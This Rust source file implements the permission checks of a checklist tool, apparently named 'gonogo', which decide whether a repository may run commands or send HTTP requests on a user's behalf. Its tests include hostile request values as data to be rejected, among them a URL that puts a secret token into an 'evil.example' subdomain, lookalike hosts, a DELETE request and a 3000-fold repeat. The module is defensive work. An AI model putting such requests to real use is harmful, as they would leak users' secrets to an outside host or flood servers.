//! Which requests may be made. A repository only asks; the user allows: by a checklist of their own, by naming a server in
//! their configuration, or by trusting what the repository asks for.

use super::address::Origin;
use super::given::Given;
use super::http::Filled;
use super::wanted::Wanted;
use crate::checklist::Source;
use crate::probe::{Http, Request, Template, Url};

const UNTRUSTED: &str = "not trusted yet: `gonogo trust` (T on the board) shows what would run";

#[derive(Clone, Debug)]
pub struct Permit {
    given: Given,
    /// What the repository asks for is what the user has trusted.
    is_trusted: bool,
}

impl Permit {
    pub fn new(given: Given, is_trusted: bool) -> Self {
        Self { given, is_trusted }
    }

    pub fn given(&self) -> &Given {
        &self.given
    }

    pub fn is_trusted(&self) -> bool {
        self.is_trusted
    }

    /// # Errors
    /// Why it may not be made, and what to do.
    pub fn admits(&self, wanted: &Wanted) -> Result<(), String> {
        match &*wanted.request {
            Request::Command(_) if self.is_vouched_for(wanted) => Ok(()),
            Request::Command(_) if wanted.sources.contains(&Source::Repository) => Err(UNTRUSTED.to_owned()),
            Request::Command(_) => Err("an embedded checklist runs no command by itself".to_owned()),
            Request::Http(http) => self.admits_http(http, wanted),
        }
    }

    fn admits_http(&self, http: &Http, wanted: &Wanted) -> Result<(), String> {
        // What is not filled in goes nowhere, and that is the first thing to know about it.
        let origin = Filled::new(http, &self.given)?.origin()?;
        let is_projects = matches!(&http.url, Url::Endpoint { name, .. } if self.given.is_projects(name));
        let is_vouched_for = if is_projects { self.is_trusted } else { self.is_vouched_for(wanted) };
        if is_vouched_for {
            return Ok(());
        }
        // The address as it was written: filled in, it can hold what only its server may know.
        match self.given.allows(&origin) {
            true => is_harmless(http).map_err(|reason| format!("{reason}, and is {UNTRUSTED}")),
            false => Err(format!("{} is {UNTRUSTED}", http.url)),
        }
    }

    /// # Errors
    /// Why a request may not be sent on to another server.
    pub fn admits_redirect(&self, wanted: &Wanted, origin: &Origin) -> Result<(), String> {
        let Request::Http(http) = &*wanted.request else { return Err("a command is not redirected".to_owned()) };
        let own = Filled::new(http, &self.given)?.origin()?;
        // A server that is allowed to be looked at is not one to be changed.
        if *origin == own || (self.given.allows(origin) && http.is_safe()) {
            return Ok(());
        }
        Err("that server is not one that was asked for; name it in `addresses` of your own config.toml".to_owned())
    }

    /// Somebody who may run things in the user's name asks for it.
    fn is_vouched_for(&self, wanted: &Wanted) -> bool {
        wanted.sources.contains(&Source::User) || (wanted.sources.contains(&Source::Repository) && self.is_trusted)
    }
}

/// Whether a stranger may ask it of a server that the user has named: one look, that sends none of the user's values but where the
/// server is.
fn is_harmless(http: &Http) -> Result<(), String> {
    let leading = match &http.url {
        Url::Whole(url) => url.leading_name(),
        Url::Endpoint { .. } => None,
    };
    if !http.is_safe() || http.body.is_some() {
        return Err(format!("{} may change what it asks", http.method));
    }
    if http.repeat.is_some() {
        return Err("it asks again and again".to_owned());
    }
    match http.templates().flat_map(Template::names).find(|name| Some(*name) != leading) {
        Some(name) => Err(format!("it sends your variable {name}")),
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Config, PROJECT_FILE};

    /// A request as a checklist of that source makes it.
    fn wanted(check: &str, source: Source) -> Wanted {
        let text = format!(
            "schema = 1\nid = \"a\"\n[[area]]\nid = \"a\"\n[[area.item]]\nid = \"a\"\ntitle = \"A\"\ncheck.{check}\n"
        );
        let (checklist, problems) = crate::checklist::parse("a.toml", &text);
        assert_eq!(problems, [], "{check}");
        let checklist = crate::checklist::Checklist { source, ..checklist.unwrap() };
        super::super::wanted(&[checklist], &|_| true).remove(0)
    }

    fn permit(user: &str, is_trusted: bool) -> Permit {
        let mut config = Config::default();
        assert_eq!(config.read_user("config.toml", user), []);
        let project = "[endpoints]\nmetrics = \"http://metrics.example:9090\"\n";
        assert_eq!(config.read_project(PROJECT_FILE, project), []);
        Permit::new(Given::of(&config), is_trusted)
    }

    #[test]
    fn commands_run_for_the_user_and_for_a_trusted_repository() {
        let run = r#"command.run = ["make"]"#;
        let admits = |source, trusted| permit("", trusted).admits(&wanted(run, source)).is_ok();
        assert!(admits(Source::User, false) && admits(Source::Repository, true));
        assert!(!admits(Source::Repository, false));
        assert!(!admits(Source::Embedded, true) && !admits(Source::Embedded, false));
    }

    #[test]
    fn servers_that_the_user_names_are_asked_and_others_need_trust() {
        let user = "addresses = [\"https://example.org\"]\n[variables]\nBASE_URL = \"http://localhost:8080\"\nTOKEN = \"s3cr3t-value\"\n";
        let admits = |check: &str, trusted| permit(user, trusted).admits(&wanted(check, Source::Repository));
        for named in [r#"http.url = "https://example.org/a""#, r#"http.url = "${BASE_URL}/health""#] {
            assert_eq!(admits(named, false), Ok(()), "{named}");
        }
        for other in [
            r#"http.url = "https://example.org:8443/a""#,
            r#"http.url = "http://example.org/a""#,
            r#"http.url = "https://example.org.evil.example/a""#,
            r#"http.url = "${BASE_URL}.evil.example/""#,
            r#"http = { url = "${BASE_URL}/orders", method = "DELETE" }"#,
            r#"http = { url = "${BASE_URL}/orders", body = "x" }"#,
            r#"http = { url = "${BASE_URL}/?t=${BASE_URL}x", headers = { Authorization = "${TOKEN}" } }"#,
            r#"http = { url = "${BASE_URL}/", repeat = { times = 3000, until = 429 } }"#,
            r#"http = { endpoint = "metrics" }"#,
        ] {
            assert!(admits(other, false).is_err(), "{other}");
        }
        assert_eq!(admits(r#"http.url = "https://elsewhere.example/""#, true), Ok(()));
        assert_eq!(admits(r#"http = { endpoint = "metrics" }"#, true), Ok(()));
        let told = admits(r#"http.url = "https://${TOKEN}.evil.example/""#, false).unwrap_err();
        assert!(told.contains("${TOKEN}") && !told.contains("s3cr3t"), "{told}");
        let unset = admits(r#"http.url = "${NOWHERE}/a""#, true).unwrap_err();
        assert!(unset.contains("--set NOWHERE="), "{unset}");
    }

    #[test]
    fn where_the_project_says_that_a_server_is_needs_trust_whoever_asks() {
        let asked = wanted(r#"http = { endpoint = "metrics" }"#, Source::User);
        assert!(permit("", false).admits(&asked).is_err());
        let own = "[endpoints]\nmetrics = \"http://mine.example\"\n";
        assert!(permit(own, false).admits(&asked).is_ok());
    }
}
